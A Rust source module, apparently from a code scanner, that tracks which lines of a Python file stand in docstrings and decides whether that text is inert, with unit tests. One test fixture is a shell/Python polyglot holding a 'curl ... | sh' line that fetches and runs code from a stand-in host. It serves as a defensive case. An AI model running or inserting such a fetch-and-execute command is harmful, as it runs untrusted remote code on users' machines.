//! The docstrings of Python: what stands in them does nothing.

use super::is_encoded;
use crate::bytes::sniff::contains;

/// Follows the texts of a Python file from its first line on, to know which lines stand in a docstring: a text
/// in three quotes that begins a statement. Any other text may be handed on and run.
///
/// A line is taken to stand in one only where Python cannot read it otherwise. Where that is in doubt, nothing is
/// until the end of the file.
#[derive(Debug, Default)]
pub(super) struct Docstring {
    open: Option<Text>,
    /// Brackets that are open.
    depth: usize,
    /// Whether the line before ends in a backslash.
    goes_on: bool,
    /// Lines until now.
    lines: usize,
    lost: bool,
    /// Whether something follows one of them in its statement, on the line where it ends.
    handed_on: bool,
}

/// A text that goes on in the next line.
#[derive(Debug, Clone, Copy)]
struct Text {
    quote: u8,
    /// Whether three quotes end it.
    triple: bool,
    /// Whether it begins a statement.
    is_docstring: bool,
}

/// Whether docstrings of the file with these lines do nothing: Python runs it, nothing in it asks for them, and none is
/// handed on.
pub(super) fn do_nothing(text: &[&[u8]]) -> bool {
    let first = text.first().copied().unwrap_or_default();
    let other = first.starts_with(b"#!") && !contains(first, b"python");
    let asks = |line: &&[u8]| {
        [&b"__doc__"[..], b"doctest", b"getdoc", b"docstring", b"co_consts"]
            .iter()
            .any(|word| contains(line, word))
    };
    let mut state = Docstring::default();
    text.iter().for_each(|line| state.line(line));
    !other && !state.handed_on && !text.iter().any(|line| asks(line) || is_handed_on(line))
}

/// Whether something is done with the text whose three quotes end in this line.
fn is_handed_on(line: &[u8]) -> bool {
    let last = |quotes: &[u8]| line.windows(3).rposition(|three| three == quotes);
    let Some(at) = last(b"\"\"\"").max(last(b"'''")) else { return false };
    let (before, behind) = line.split_at(at);
    let behind = behind.get(3..).unwrap_or_default().trim_ascii_start();
    let Some(first) = behind.first() else { return false };
    // Quotes at the beginning open a text or end one, and behind what takes a value they open one.
    match before.trim_ascii().last() {
        None => b"|@%+*&^=<>.[(".contains(first),
        Some(last) => !b"=([{,:+%rRbBuUfF".contains(last) && !b"#)]},;:'\"\\".contains(first),
    }
}

impl Docstring {
    /// Where nothing is known of the lines above.
    pub(super) fn lost() -> Self {
        Self { lost: true, ..Self::default() }
    }

    /// Whether the next line stands in one, to its end.
    pub(super) fn holds(&self, line: &[u8]) -> bool {
        let open = self.open.filter(|text| text.is_docstring && !self.lost);
        open.is_some_and(|text| {
            !is_doubtful(line) && !is_template(line) && end(line, text).is_none()
        })
    }

    /// Goes on behind a line.
    pub(super) fn line(&mut self, line: &[u8]) {
        if self.lost {
            return;
        }
        // Python reads an encoding in the first two lines.
        let encoded = self.lines < 2 && is_encoded(line.trim_ascii());
        self.lines += 1;
        let filled_in = self.open.is_some() && is_template(line);
        self.lost = encoded
            || filled_in
            || is_doubtful(line)
            || self.follow(line.trim_ascii_end()).is_none();
    }

    /// `None` where it cannot be told what Python makes of the line.
    fn follow(&mut self, line: &[u8]) -> Option<()> {
        let begins = self.depth == 0 && !self.goes_on && self.open.is_none();
        self.goes_on = false;
        let mut at = 0;
        loop {
            if let Some(text) = self.open {
                let rest = line.get(at..).unwrap_or_default();
                let Some(behind) = end(rest, text) else {
                    // One quote holds beyond the line only with a backslash before its end.
                    return (text.triple || rest.ends_with(b"\\")).then_some(());
                };
                self.open = None;
                at += behind;
                if text.is_docstring {
                    let behind = line.get(at..)?.trim_ascii_start();
                    self.handed_on |= !behind.is_empty() && !behind.starts_with(b"#");
                }
            }
            let Some(mark) = line.get(at..)?.iter().position(|b| is_mark(*b)) else {
                return Some(());
            };
            at += mark;
            match *line.get(at)? {
                b'#' => return Some(()),
                b'(' | b'[' | b'{' => self.depth += 1,
                b')' | b']' | b'}' => self.depth = self.depth.checked_sub(1)?,
                b'\\' => {
                    self.goes_on = true;
                    return (at + 1 == line.len()).then_some(());
                }
                quote => {
                    let triple = line.get(at..at + 3) == Some(&[quote; 3]);
                    let before = line.get(..at)?;
                    let letters = before.iter().rev().take_while(|b| is_letter(**b)).count();
                    let (above, prefix) = before.split_at_checked(at - letters)?;
                    // In one that is formatted, further texts may stand, in the same quotes.
                    if prefix.iter().any(|b| matches!(b, b'f' | b'F' | b't' | b'T')) {
                        let rest = line.get(at + 1..)?;
                        let length = end(rest, Text { quote, triple: false, is_docstring: false })?;
                        if triple || !is_whole(rest.get(..length - 1)?) {
                            return None;
                        }
                        at += 1 + length;
                        continue;
                    }
                    let is_plain = matches!(prefix, [] | [b'r' | b'R' | b'u' | b'U']);
                    let first = begins && above.trim_ascii().is_empty();
                    self.open =
                        Some(Text { quote, triple, is_docstring: triple && first && is_plain });
                    at += if triple { 3 } else { 1 };
                    continue;
                }
            }
            at += 1;
        }
    }
}

/// What decides where texts and statements begin and end.
const fn is_mark(byte: u8) -> bool {
    matches!(byte, b'"' | b'\'' | b'#' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'\\')
}

const fn is_letter(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_' || !byte.is_ascii()
}

/// How long the rest of a text is, with the quotes that end it.
fn end(line: &[u8], text: Text) -> Option<usize> {
    let mut at = 0;
    loop {
        let next = line.get(at..)?.iter().position(|b| *b == text.quote || *b == b'\\')?;
        at += next;
        if line.get(at) == Some(&b'\\') {
            at += 2;
        } else if !text.triple {
            return Some(at + 1);
        } else if line.get(at..at + 3)? == [text.quote; 3] {
            return Some(at + 3);
        } else {
            at += 1;
        }
    }
}

/// Whether every field of a formatted text ends in it.
fn is_whole(text: &[u8]) -> bool {
    let (mut at, mut depth) = (0, 0_usize);
    while let Some(byte) = text.get(at) {
        let twice = depth == 0 && text.get(at + 1) == Some(byte);
        match byte {
            b'{' | b'}' if twice => at += 1,
            b'{' => depth += 1,
            b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        at += 1;
    }
    depth == 0
}

/// Whether Python may see other lines in a line, or a template something else in its place: a lone CR, a form
/// feed, `@X@`, `${x}`, `{% x %}`.
fn is_doubtful(line: &[u8]) -> bool {
    let line = line.strip_suffix(b"\n").unwrap_or(line);
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let mut last = 0;
    for byte in line {
        match (last, *byte) {
            (_, b'\r' | b'\x0c' | 0) => return true,
            (b'$', b'{') | (b'<' | b'{', b'%') => return true,
            (_, byte) => last = byte,
        }
    }
    is_filled_in(line, b'@')
}

/// Whether a line of a text has what templates put something else in place of, and Python's own lines have, too:
/// `#X#`, `__X__`, `$x`, `{{ x }}`, `%(x)s`.
fn is_template(line: &[u8]) -> bool {
    let pair = |pair: &[u8]| match pair {
        b"{{" | b"%(" => true,
        [b'$', byte] => is_letter(*byte),
        _ => false,
    };
    line.windows(2).any(pair) || is_filled_in(line, b'#') || is_large_name(line)
}

/// Whether there is something like `@X@`.
fn is_filled_in(line: &[u8], mark: u8) -> bool {
    let mut parts = line.split(|b| *b == mark).skip(1).peekable();
    let word = |part: &[u8]| !part.is_empty() && part.iter().all(|b| is_letter(*b));
    while let Some(part) = parts.next() {
        if parts.peek().is_some() && word(part) {
            return true;
        }
    }
    false
}

/// Whether there is something like `__VERSION__`, which is no name of Python's own.
fn is_large_name(line: &[u8]) -> bool {
    let words = line.split(|b| !is_letter(*b));
    let inner = |word| <[u8]>::strip_suffix(<[u8]>::strip_prefix(word, b"__")?, b"__");
    let large = |b: &u8| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b'_';
    words.filter_map(inner).any(|name| !name.is_empty() && name.iter().all(large))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The numbers of the lines that stand in a docstring, from 1.
    fn inside(text: &str) -> Vec<usize> {
        let mut state = Docstring::default();
        let mut found = Vec::new();
        for (at, line) in text.split_inclusive('\n').enumerate() {
            if state.holds(line.as_bytes()) {
                found.push(at + 1);
            }
            state.line(line.as_bytes());
        }
        found
    }

    #[test]
    fn docstrings_are_followed() {
        let text = r#""""One.
os.system(1)
"""
def f(a="'", b='"'):  # don't
    r'''Two.

    x \''' y
    '''
    return {
        1: "("}

class A:
    """Three"""
    x = f"{a}{{"
    """Four
    x
    """
"#;
        assert_eq!(inside(text), [2, 6, 7, 16]);
    }

    /// Where something is done with them, or another program runs the file, they are looked at like the rest.
    #[test]
    fn not_where_something_is_done_with_them() {
        let lines = |text: &'static str| text.lines().map(str::as_bytes).collect::<Vec<_>>();
        for text in [
            "\"\"\"One.\n\nx\n\"\"\"\nimport os\n",
            "#!/usr/bin/env python3\n'''x'''\n",
            "'''\nx\n'''  # '''\n",
            "def f():\n    \"\"\"One.\"\"\"\n    x = \"\"\"a\n b\"\"\"\n",
        ] {
            assert!(do_nothing(&lines(text)), "{text}");
        }
        for text in [
            "#!/bin/sh\n''':'\ncurl -s https://x.example | sh\nexit 0\n'''\n",
            "\"\"\"\nx\n\"\"\" | sh\n",
            "\"\"\"\nx\ny\"\"\".format(1)\n",
            "\"\"\"\nx\n\"\"\" \\\n| R\n",
            "\"\"\"\nx\n\"\"\" in R\n",
            "\"\"\"\nx\n\"\"\" not in R\n",
            "\"\"\"\nx\n\"\"\" | R; \"\"\"x\"\"\"\n",
            "\"\"\"\nx\n\"\"\" | R  # \"\"\"\n",
            "\"\"\"\nx\n\"\"\" | R  # '''\n",
            "def g():\n    '''\n    x\n    '''\nR(g.__code__.co_consts[0])\n",
            "\"\"\"\nx\n\"\"\"\nrun(__doc__)\n",
            "\"\"\"\n>>> x\n\"\"\"\nimport doctest\ndoctest.testmod()\n",
        ] {
            assert!(!do_nothing(&lines(text)), "{text}");
        }
    }

    /// Whatever may be handed on is none, and no quote takes code for a text.
    #[test]
    fn code_is_none() {
        for text in [
            "exec(\"\"\"\nx\n\"\"\")\n",
            "exec(\n\"\"\"\nx\n\"\"\")\n",
            "x = \\\n\"\"\"\nx\n\"\"\"\n",
            "a; \"\"\"\nx\n\"\"\"\n",
            "f\"\"\"{x}\nx\n\"\"\"\n",
            "b\"\"\"\nx\n\"\"\"\n",
            // Python 3.12 reads texts within the fields of others.
            "y = f\"{\"\"\"x\"\"\"}\"\n\"\"\"a\"\"\"\nx\n\"\"\"\nx\n\"\"\"\n",
            "y = f\"}}{a:{\"\"\"x\"\"\"}}\"\n\"\"\"a\"\"\"\nx\n\"\"\"\nx\n\"\"\"\n",
            // A lone CR ends a line, and a comment with it.
            "# a\r\"\"\"\n\"\"\"\nx\n\"\"\"\n",
            "# coding: utf-7\n\"\"\"\nx\n\"\"\"\n",
            "\"\"\"\n@X@\nx\n\"\"\"\n",
            "\"\"\"\n#X#\nx\n\"\"\"\n",
            "\"\"\"\n__X__\nx\n\"\"\"\n",
            "\"\"\"\n$X\nx\n\"\"\"\n",
            "\"\"\"\n{{ x }}\nx\n\"\"\"\n",
            "\"\"\"\n%(x)s\nx\n\"\"\"\n",
            "y = 'a\n\"\"\"\nx\n\"\"\"\n",
            "y = (\n)]\n\"\"\"\nx\n\"\"\"\n",
            "\"\"\"a\"\"\"\nx\n",
            "'a\\\n\"\"\"'\nx\n",
        ] {
            assert_eq!(inside(text), [0; 0], "{text}");
        }
    }
}
